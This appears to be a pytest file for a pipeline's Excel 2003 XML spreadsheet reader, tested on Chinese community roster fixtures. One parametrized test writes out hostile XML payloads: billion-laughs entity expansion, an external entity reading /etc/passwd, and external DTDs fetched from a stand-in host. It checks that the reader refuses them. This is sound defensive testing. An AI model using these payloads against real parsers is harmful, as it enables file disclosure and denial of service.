"""Excel 2003 XML (SpreadsheetML) files, a common government export, as ``.xml`` or renamed
``.xls`` (pipeline.load.spreadsheetml). Before, they were read as an empty web page: "readable",
0 rows, "请重新发送". Hostile ones (entity expansion, external entities, far cells) are refused
before anything is expanded, fetched or allocated.
"""

from __future__ import annotations

import datetime as dt
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from pipeline.cli import main
from pipeline.load import read_file
from tests.conftest import CONFIG
from tests.factories import make_id
from tests.load.helpers import CJK, LIMITS, codes

HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<?mso-application progid="Excel.Sheet"?>\n'
    '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:o="urn:schemas-microsoft-com:office:office"'
    ' xmlns:x="urn:schemas-microsoft-com:office:excel" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"'
    ' xmlns:html="http://www.w3.org/TR/REC-html40">\n'
)


def _cell(value: object, index: int | None = None, across: int = 0) -> str:
    attrs = (f' ss:Index="{index}"' if index else "") + (f' ss:MergeAcross="{across}"' if across else "")
    if isinstance(value, dt.date):
        data = f'<Data ss:Type="DateTime">{value.isoformat()}T00:00:00.000</Data>'
    elif isinstance(value, int | float):
        data = f'<Data ss:Type="Number">{value}</Data>'
    else:
        data = f'<Data ss:Type="String">{value}</Data>'
    return f"<Cell{attrs}>{data}</Cell>"


def _row(*cells: str, index: int | None = None) -> str:
    attrs = f' ss:Index="{index}"' if index else ""
    return f'<Row{attrs}>{"".join(cells)}</Row>'


def _sheet(name: str, rows: list[str], hidden: bool = False) -> str:
    options = (
        '<WorksheetOptions xmlns="urn:schemas-microsoft-com:office:excel"><Visible>SheetHidden</Visible>'
        "</WorksheetOptions>"
        if hidden
        else '<WorksheetOptions xmlns="urn:schemas-microsoft-com:office:excel"><Selected/></WorksheetOptions>'
    )
    return f'<Worksheet ss:Name="{name}"><Table>{"".join(rows)}</Table>{options}</Worksheet>'


def workbook(*sheets: str, doctype: str = "") -> str:
    head = HEAD.replace("<Workbook", f"{doctype}<Workbook", 1) if doctype else HEAD
    return head + "".join(sheets) + "</Workbook>\n"


ROSTER = [
    _row(_cell("泗洲街道新民社区已孕对象花名册", across=3)),
    _row(_cell("姓名"), _cell("身份证号"), _cell("联系电话"), _cell("末次月经")),
    _row(_cell("张三"), _cell(make_id(1)), _cell(13712345678), _cell(dt.date(2020, 6, 1))),
    # A blank row skipped by ss:Index, and a cell placed by its own ss:Index after a gap.
    _row(_cell("李四"), _cell(make_id(2)), _cell(13712345679, index=4), index=5),
    # Rich text and a comment: the comment's own <Data> is not the cell's value.
    _row(
        '<Cell><ss:Data ss:Type="String" xmlns="http://www.w3.org/TR/REC-html40"><B>王</B><Font>五</Font></ss:Data>'
        '<Comment ss:Author="x"><ss:Data>备注不是姓名</ss:Data></Comment></Cell>',
        _cell(make_id(3)),
        _cell("13712345670"),
        _cell("2020-05-01"),
    ),
]


def test_a_roster_exported_as_excel_2003_xml_is_read_exactly(tmp_path: Path) -> None:
    path = tmp_path / "新民社区花名册.xml"
    path.write_text(workbook(_sheet("花名册", ROSTER), _sheet("说明", [_row(_cell("隐藏的说明"))], hidden=True)),
                    encoding="utf-8")
    result = read_file(path, tmp_path, LIMITS)
    assert result.format == "xml" and codes(result) == []
    roster, notes = result.sheets
    assert (roster.sheet, roster.hidden, notes.sheet, notes.hidden) == ("花名册", False, "说明", True)
    assert roster.rows == [
        ["泗洲街道新民社区已孕对象花名册", None, None, None],
        ["姓名", "身份证号", "联系电话", "末次月经"],
        ["张三", make_id(1), 13712345678.0, dt.datetime(2020, 6, 1)],
        [None, None, None, None],
        ["李四", make_id(2), None, 13712345679.0],
        ["王五", make_id(3), "13712345670", "2020-05-01"],
    ]


def test_renamed_xls_is_read_by_its_content(tmp_path: Path) -> None:
    path = tmp_path / "新民社区花名册.xls"
    path.write_text(workbook(_sheet("Sheet1", ROSTER)), encoding="utf-8")
    result = read_file(path, tmp_path, LIMITS)
    assert result.format == "xml" and len(result.sheets[0].rows) == 6
    assert codes(result) == ["format_mismatch"] and "Excel 2003 XML" in result.problems[0].message


def _laughs() -> str:
    entities = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else f"lol{i - 1}"
        entities.append(f'<!ENTITY lol{i} "{f"&{prev};" * 10}">')
    return f"<!DOCTYPE Workbook [{''.join(entities)}]>"


@pytest.mark.parametrize(
    ("doctype", "cell"),
    [
        (_laughs(), "&lol9;"),
        ('<!DOCTYPE Workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
        ('<!DOCTYPE Workbook SYSTEM "http://198.51.100.7/evil.dtd">', "x"),
        ('<!DOCTYPE Workbook [<!ENTITY % p SYSTEM "http://198.51.100.7/p.dtd"> %p;]>', "x"),
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_dtds_and_entities_are_refused_before_expansion(tmp_path: Path, doctype: str, cell: str) -> None:
    path = tmp_path / "新民社区花名册.xml"
    path.write_text(workbook(_sheet("S", [_row(_cell("姓名"), _cell(cell))]), doctype=doctype), encoding="utf-8")
    started = time.monotonic()
    result = read_file(path, tmp_path, LIMITS)
    assert time.monotonic() - started < 2
    assert result.sheets == [] and codes(result) == ["unreadable"]
    assert "DOCTYPE" in result.problems[0].message and CJK.search(result.problems[0].message)
    assert "root:" not in str(result) and "lollol" not in str(result)


def test_a_far_cell_is_refused_before_a_grid_is_built(tmp_path: Path) -> None:
    path = tmp_path / "新民社区花名册.xml"
    far = _row(_cell("x", index=16384), index=2_000_000)
    path.write_text(workbook(_sheet("大", [*ROSTER, far]), _sheet("好", ROSTER)), encoding="utf-8")
    started = time.monotonic()
    result = read_file(path, tmp_path, LIMITS)
    assert time.monotonic() - started < 2
    assert [s.sheet for s in result.sheets] == ["好"]
    assert [(p.code, p.sheet) for p in result.problems] == [("sheet_too_large", "大")]


def test_a_broken_file_is_unreadable_with_a_reason(tmp_path: Path) -> None:
    path = tmp_path / "新民社区花名册.xml"
    path.write_text(workbook(_sheet("S", ROSTER))[:-40], encoding="utf-8")
    result = read_file(path, tmp_path, LIMITS)
    assert result.sheets == [] and codes(result) == ["unreadable"] and "不完整" in result.problems[0].message


def test_excel_2003_xml_rows_are_counted_end_to_end(tmp_path: Path) -> None:
    inp = tmp_path / "in"
    inp.mkdir()
    (inp / "新民社区花名册20200418.xls").write_text(workbook(_sheet("花名册", ROSTER)), encoding="utf-8")
    result = CliRunner().invoke(
        main, ["check", "--input", str(inp), "--config", str(CONFIG), "--as-of", "2020-06-30"]
    )
    assert result.exit_code == 0, result.output
    assert "共 3 行 = 采用 3 行 + 未采用 0 行（花名册 3，" in result.output
